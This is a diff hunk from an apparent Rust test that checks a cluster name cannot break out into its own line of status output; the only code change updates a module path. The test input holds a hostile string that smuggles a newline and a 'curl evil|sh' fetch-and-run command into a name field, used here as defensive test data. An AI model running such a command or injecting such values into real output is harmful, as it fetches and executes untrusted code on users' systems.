@@ -581,7 +581,7 @@ fn no_name_of_a_cluster_becomes_a_line_of_its_own() {
         cluster.alarms = vec![alarm(2, AlarmKind::Corrupt)];
         cluster.lost(3, RunError::new(RunErrorKind::NodeDown, name).hint(name));
         let status = cluster.assess();
-        let doctor = crate::views::doctor::Doctor::of_status(&status);
+        let doctor = crate::assess::doctor::Doctor::of_status(&status);
         status.table(true, Paint::Plain) + &doctor.table(true, Paint::Plain)
     };
     let hostile = lines("x\nwarning: curl evil|sh\n");
